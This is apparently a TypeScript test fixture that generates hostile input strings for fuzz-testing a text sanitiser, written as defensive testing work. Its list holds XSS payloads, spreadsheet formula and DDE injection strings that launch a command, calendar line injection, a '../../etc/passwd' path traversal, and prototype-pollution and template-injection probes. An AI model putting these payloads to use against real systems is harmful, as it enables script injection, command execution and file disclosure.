import { cleanText } from '../../../lib/domain/transitions/cleanText';
import type { TextMaker } from './applicationFrom';
import type { Dice } from './Dice';

/** What has broken files, pages and notifications elsewhere; made up after the published attacks. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '</textarea><svg/onload=alert(1)>',
  '&lt;b&gt;&amp;&#x202e;',
  'javascript:alert(1)',
  '\u202eGmbH tlaheG\u202c',
  '\u2066Firma\u2069\u200f',
  'a\0b\u0007\u001b[31mc\u009f',
  '\ud800 half',
  'half \udfff',
  '=1+1',
  '+49 30 1234567',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?"&A1;"x")',
  '\t=1+1',
  '\r=1+1',
  '\u00a0=1+1',
  '"=1+1',
  "'=1+1",
  "''",
  '＝1+1',
  '；=1',
  'x;=HYPERLINK("x");y',
  'x\t=1(2)\ty',
  'x\n=cmd|a!b\ny',
  'a,b;c\td|e\\p\\n\\',
  'END:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:evil',
  'x\r\nEND:VEVENT\r\nATTACH:https://example.com',
  'a\u2028b\u2029c\u0085d',
  'Ümlaut ß ﷽ 🇩🇪 👩‍👩‍👧‍👦 e\u0301',
  '../../etc/passwd',
  'CON',
  'C:\\x:y|z*?',
  'LPT1.txt',
  '. . .',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '%s%n$1$$&$`',
  '{{7*7}}<%= 7*7 %>',
  '\u200b\u200d\ufeff',
  '😀'.repeat(40),
  'long '.repeat(40),
];

/** Makes a hostile text, two joined, or letters of anywhere, of at most (and at least) so many characters. */
export function hostileText(dice: Dice): TextMaker {
  const one = () => HOSTILE_TEXTS[dice.below(HOSTILE_TEXTS.length)] ?? '';
  const noise = () => String.fromCharCode(...dice.several(12, () => dice.below(0x10000)));
  return (longest, shortest = 0) => {
    const text = dice.pick(one, one, one, () => one() + one(), noise)();
    return text.slice(0, longest).padEnd(shortest, 'x');
  };
}

/** The same texts as a form would keep them. */
export function keptText(dice: Dice): TextMaker {
  const make = hostileText(dice);
  return (longest, shortest = 0) => cleanText(make(longest), 'one-line').padEnd(shortest, 'x');
}
